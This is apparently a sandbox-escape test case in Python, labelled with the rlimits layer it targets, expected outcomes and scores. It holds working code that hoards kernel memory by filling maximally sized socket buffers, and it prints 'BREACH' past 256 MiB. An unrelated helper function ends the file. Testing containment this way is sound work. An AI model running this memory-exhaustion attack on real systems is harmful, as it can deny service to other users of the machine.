# attack: keep kernel memory in socket buffers made as large as they go
# layer: rlimits
# outcome: ok, memory_limit
# score: 0, 2
import os
import socket

hoard, kept = [], 0
try:
    while True:
        pair = socket.socketpair()
        hoard.append(pair)
        pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        pair[0].setblocking(False)
        try:
            while True:
                kept += pair[0].send(b"s" * 65536)
        except BlockingIOError:
            pass
except OSError:
    pass
if kept > 256 << 20:
    os.write(1, b"BREACH %d bytes in sockets" % kept)


def double(x):
    return x * 2
